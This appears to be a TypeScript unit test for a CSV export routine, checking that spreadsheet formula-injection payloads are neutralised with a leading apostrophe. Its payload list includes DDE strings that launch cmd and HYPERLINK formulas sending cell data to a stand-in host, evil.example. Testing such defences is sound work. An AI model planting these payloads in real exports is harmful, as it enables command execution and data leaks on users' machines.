import Papa from 'papaparse';
import { copiesToCsv } from '../utils/performance-csv';
import { makeCopy } from './fixtures';

/*
 * Formula injection: a title or text a user typed (or a collaborator did) must never run as a formula when
 * the downloaded CSV is opened in a spreadsheet. Every cell starting with = + - @, a tab or a carriage
 * return is written with a leading ' (shown as text); anything else is written as it is.
 */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  // A line break after the formula: papaparse's own check (escapeFormulae: true) let these through.
  '=HYPERLINK("https://evil.example/?"&B3,\n"Open")',
  '+1\r\n=cmd',
];
const HARMLESS = ['<script>alert(1)</script>', 'Fresh beans = better mornings', 'a@b.example', '"quoted", with comma'];

function cellsOf(csv: string): string[][] {
  return Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.slice(1);
}

it.each(FORMULAS)('defuses %j in the title and the text of a copy', (payload) => {
  const [row] = cellsOf(copiesToCsv([makeCopy({ title: payload, content: payload })]));
  expect(row![2]).toBe(`'${payload}`);
  expect(row![3]).toBe(`'${payload}`);
});

it.each(HARMLESS)('writes %j as it is', (text) => {
  const [row] = cellsOf(copiesToCsv([makeCopy({ title: text, content: text })]));
  expect(row![2]).toBe(text);
  expect(row![3]).toBe(text);
});
